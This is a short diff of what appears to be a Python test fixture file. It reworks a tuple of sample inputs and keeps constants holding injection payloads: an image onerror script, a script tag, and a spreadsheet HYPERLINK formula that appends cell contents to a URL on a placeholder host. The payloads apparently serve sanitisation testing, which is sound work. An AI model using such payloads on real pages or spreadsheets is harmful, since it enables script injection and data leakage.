@@ -6,7 +6,10 @@ IMAGE = "<img src=x onerror=\"document.title='broken'\">"
 SCRIPT = "<script>document.title='broken'</script>"
 FORMULA = "=HYPERLINK(\"http://x/?\"&A1;'x')"
 
-HOSTILE = (["alpha beta", "gamma delta", "omega psi"] * 6, [["=1+1"], ["a/b?c#d%20"], ["plain"]] * 6)
+HOSTILE = (
+    [f"{text} {i}" for i in range(6) for text in ("alpha beta", "gamma delta", "omega psi")],
+    [["=1+1"], ["a/b?c#d%20"], ["plain"]] * 6,
+)
 PREDICTED = ["r19", "f979", "w4900"]
 
 
